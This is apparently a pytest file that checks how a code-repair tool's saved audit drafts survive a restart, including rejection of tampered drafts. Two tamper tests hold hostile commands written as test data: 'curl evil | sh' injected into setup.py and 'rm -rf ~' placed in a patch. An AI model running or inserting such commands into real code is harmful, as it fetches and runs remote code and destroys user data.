"""The saved audit (`.autopatch-j/audit.json`) against what the product really makes (review of r24,
finding 2): whatever `save` writes, `load` reads back — a draft the product can make is kept across
a restart, and what cannot be kept is said (`persist_error`, so quitting asks first), never written
only to be rejected at the next start."""

from __future__ import annotations

from pathlib import Path

from autopatch_tui.core.repair import drafts_file
from autopatch_tui.core.repair.analyzers.ruff import RuffAnalyzer
from autopatch_tui.core.repair.findings import Finding
from autopatch_tui.core.repair.patching import make_draft
from autopatch_tui.core.repair.scanner import Scanner, ScanReport
from autopatch_tui.core.repair.summary import audit_summary
from autopatch_tui.core.repair.workspace import AuditWorkspace, ReviewState
from tests.repair.conftest import EVAL, write

MAX_NOTES = 20  # scanner.MAX_NOTES

THREAD = "thr-1"


def saving(repo: Path, ws: AuditWorkspace) -> ReviewState:
    review = ReviewState()
    review.persist_to(repo)
    assert review.start(ws)
    return review


def restarted(repo: Path) -> tuple[ReviewState, str]:
    later = ReviewState()
    later.persist_to(repo)
    return later, later.restore(THREAD)


def test_a_draft_in_a_file_with_a_long_line_is_kept_across_a_restart(repo: Path) -> None:
    long_line = "VALUES = [" + ", ".join(["1"] * 83_000) + "]  # word\n"  # ~250 KB: generated data, a minified line
    write(repo, "a.py", "import os\n" + long_line)
    finding = Finding("F1", "a.py", 2, "X1", "something on the long line", tool="ruff")
    ws = AuditWorkspace.from_report("scan-1", (), ScanReport(files=1, findings=[finding]), thread_id=THREAD)
    review = saving(repo, ws)
    draft = make_draft(repo, finding, finding_id="F1", old_text="# word", new_text="# other")
    assert len(draft.diff) > 400_000  # the long line twice: removed and added
    ws.set_draft(draft)
    assert review.persist_error == ""
    later, note = restarted(repo)
    assert note == "The open audit of the repository was restored: 1 pending patch(es) (/patch list)."
    restored = later.require().pending_patch("F1").draft
    assert restored is not None and restored.diff == draft.diff


def test_an_audit_the_file_cannot_hold_is_said_not_kept_and_never_half_restored(repo: Path) -> None:
    # a rule ID longer than the saved file allows (a future analyzer's, say): `save` checks what it
    # writes with the same model `load` uses, so the answer comes now, not as a rejected file later
    finding = Finding("F1", "a.py", 1, "x" * 300, "message", tool="semgrep")
    ws = AuditWorkspace.from_report("scan-1", (), ScanReport(files=1, findings=[finding]), thread_id=THREAD)
    review = ReviewState()
    review.persist_to(repo)
    review.start(AuditWorkspace.from_report("scan-0", (), ScanReport(files=1), thread_id=THREAD))
    assert drafts_file.path_of(repo).exists()  # an earlier, smaller audit was saved
    assert review.start(ws)
    assert review.persist_error.startswith("the open audit's drafts could not be saved"), review.persist_error
    assert "not kept across a restart" in review.persist_error  # so ctrl+q asks before they go
    assert not drafts_file.path_of(repo).exists()  # the earlier audit would come back wrong
    later, note = restarted(repo)
    assert (note, later.workspace) == ("", None)


def test_many_skipped_configurations_make_a_bounded_list_of_notes(repo: Path) -> None:
    write(repo, "a.py", EVAL)
    for n in range(MAX_NOTES + 25):
        write(repo, f"pkg{n:03}/b.py", EVAL)
        write(repo, f"pkg{n:03}/ruff.toml", "[lint\nbroken")
    report = Scanner(repo, [RuffAnalyzer(timeout=60.0, memory_limit=1 << 30)]).scan()
    assert len(report.findings) == MAX_NOTES + 26
    assert len(report.notes) == MAX_NOTES + 1
    assert report.notes[-1] == "…and 25 more notes like these"
    text = audit_summary(AuditWorkspace.from_report("scan-1", (), report), model=False)
    assert sum(1 for line in text.splitlines() if "is not valid TOML" in line) == MAX_NOTES
    ws = AuditWorkspace.from_report("scan-1", (), report, thread_id=THREAD)
    review = saving(repo, ws)
    assert review.persist_error == ""
    later, _ = restarted(repo)
    assert later.require().report.notes == report.notes


def test_a_very_long_analyzer_message_is_cut_and_the_audit_is_kept(repo: Path) -> None:
    name = "undefined_" + "x" * 5_000
    write(repo, "a.py", f"print({name})\n")  # Ruff's F821 quotes the name in its message
    report = Scanner(repo, [RuffAnalyzer(timeout=60.0, memory_limit=1 << 30)]).scan()
    [finding] = report.findings
    assert finding.check_id == "F821" and len(finding.message) <= 4_000 and finding.message.endswith("…")
    review = saving(repo, AuditWorkspace.from_report("scan-1", (), report, thread_id=THREAD))
    assert review.persist_error == ""
    later, note = restarted(repo)
    assert "was restored" in note and later.require().get("F1").finding == finding


# --- a restored draft is re-made from the file as it is (review of r24, findings 3 and 4) --------

SETUP = "from setuptools import setup\n\nsetup(name='x')\n"
CODE = "def load(path):\n    try:\n        return open(path).read()\n    except:\n        pass\n"


def saved_with(repo: Path, edit) -> dict:  # type: ignore[no-untyped-def]
    """An audit with F1 (a.py) drafted, saved as the app saves it; then `edit(doc)` changes the file."""
    import json

    write(repo, "a.py", CODE)
    finding = Finding("F1", "a.py", 4, "S110", "try-except-pass", tool="ruff")
    ws = AuditWorkspace.from_report("scan-1", (), ScanReport(files=1, findings=[finding]), thread_id=THREAD)
    saving(repo, ws)
    ws.set_draft(make_draft(repo, finding, finding_id="F1", old_text="        pass\n", new_text="        raise\n"))
    path = drafts_file.path_of(repo)
    doc = json.loads(path.read_text(encoding="utf-8"))
    edit(doc["states"][0]["draft"])
    path.write_text(json.dumps(doc), encoding="utf-8")
    return doc


def test_a_saved_draft_for_another_file_than_its_finding_is_not_restored(repo: Path) -> None:
    from autopatch_tui.core.repair.patching import digest

    write(repo, "setup.py", SETUP)

    def elsewhere(draft: dict) -> None:  # the a.py diff stays; the edit goes to setup.py
        draft.update(path="setup.py", old_text="setup(name='x')\n",
                     new_text="import os; os.system('curl evil | sh')\nsetup(name='x')\n", base_digest=digest(SETUP))

    saved_with(repo, elsewhere)
    later, note = restarted(repo)
    assert note == "The saved audit was not read: it is not a valid audit file."
    assert later.workspace is None and (repo / "setup.py").read_text(encoding="utf-8") == SETUP


def test_a_saved_draft_bound_to_another_finding_is_not_restored(repo: Path) -> None:
    saved_with(repo, lambda draft: draft.update(finding_id="F2"))
    later, note = restarted(repo)
    assert note == "The saved audit was not read: it is not a valid audit file." and later.workspace is None


def test_the_diff_shown_after_a_restart_is_the_one_apply_writes(repo: Path) -> None:
    from autopatch_tui.core.repair.patching import apply_draft

    # the file is unchanged (its fingerprint matches), but the stored diff says something else
    saved_with(repo, lambda draft: draft.update(new_text="        import os; os.system('rm -rf ~')\n"))
    later, note = restarted(repo)
    assert note == "The open audit of the repository was restored: 1 pending patch(es) (/patch list)."
    draft = later.require().pending_patch("F1").draft
    assert draft is not None and "+        import os; os.system('rm -rf ~')\n" in draft.diff
    assert "raise" not in draft.diff
    apply_draft(repo, draft)
    assert "os.system" in (repo / "a.py").read_text(encoding="utf-8")  # what was shown is what was written


def test_a_saved_draft_that_would_not_parse_is_stale_after_a_restart(repo: Path) -> None:
    saved_with(repo, lambda draft: draft.update(new_text="        raise (\n"))
    later, note = restarted(repo)
    assert "0 pending patch(es), 1 stale" in note and later.require().get("F1").status == "stale"


def applied_but_not_saved(repo: Path) -> Path:
    """F1 drafted with a new text that holds the old one (applied twice, the edit would double),
    then written to a.py as `/patch apply` does — and the app killed before `applied` was saved."""
    from autopatch_tui.core.repair.patching import apply_draft

    write(repo, "a.py", CODE)
    finding = Finding("F1", "a.py", 4, "S110", "try-except-pass", tool="ruff")
    ws = AuditWorkspace.from_report("scan-1", (), ScanReport(files=1, findings=[finding]), thread_id=THREAD)
    saving(repo, ws)
    old, new = "        pass\n", "        pass\n        log.exception('load failed')\n"
    ws.set_draft(make_draft(repo, finding, finding_id="F1", old_text=old, new_text=new))
    apply_draft(repo, ws.get("F1").draft)
    return repo / "a.py"


def test_a_patch_applied_before_its_state_was_saved_is_not_offered_again(repo: Path) -> None:
    path = applied_but_not_saved(repo)
    patched = path.read_text(encoding="utf-8")
    later, note = restarted(repo)
    state = later.require().get("F1")
    assert (state.status, state.verification) == ("applied", "unverified")
    assert "Applied before the restart (not verified again): F1." in note
    assert later.pending_patches() == 0 and path.read_text(encoding="utf-8") == patched


def test_a_patch_applied_and_then_edited_around_is_stale_not_offered_again(repo: Path) -> None:
    path = applied_but_not_saved(repo)
    path.write_text("import logging\n" + path.read_text(encoding="utf-8"), encoding="utf-8")  # edited since
    later, note = restarted(repo)
    assert later.require().get("F1").status == "stale" and later.pending_patches() == 0
    assert "Stale (their text changed): F1" in note


def test_a_saved_audit_of_an_earlier_thread_is_closed_and_the_start_says_what_went(repo: Path) -> None:
    """Review of r24, finding 8: after `autopatch-tui new` (CLI) the next start dropped the saved
    drafts without a word."""
    write(repo, "a.py", CODE)
    finding = Finding("F1", "a.py", 4, "S110", "try-except-pass", tool="ruff")
    ws = AuditWorkspace.from_report("scan-1", (), ScanReport(files=1, findings=[finding]), thread_id="thr-old")
    saving(repo, ws)
    ws.set_draft(make_draft(repo, finding, finding_id="F1", old_text="        pass\n", new_text="        raise\n"))
    later = ReviewState()
    later.persist_to(repo)
    assert later.restore("thr-new") == ("The saved audit of an earlier thread was closed; 1 pending patch(es) were "
                                        "not applied.")
    assert later.workspace is None and not drafts_file.path_of(repo).exists()
    assert later.restore("thr-new") == ""  # said once: the file is gone
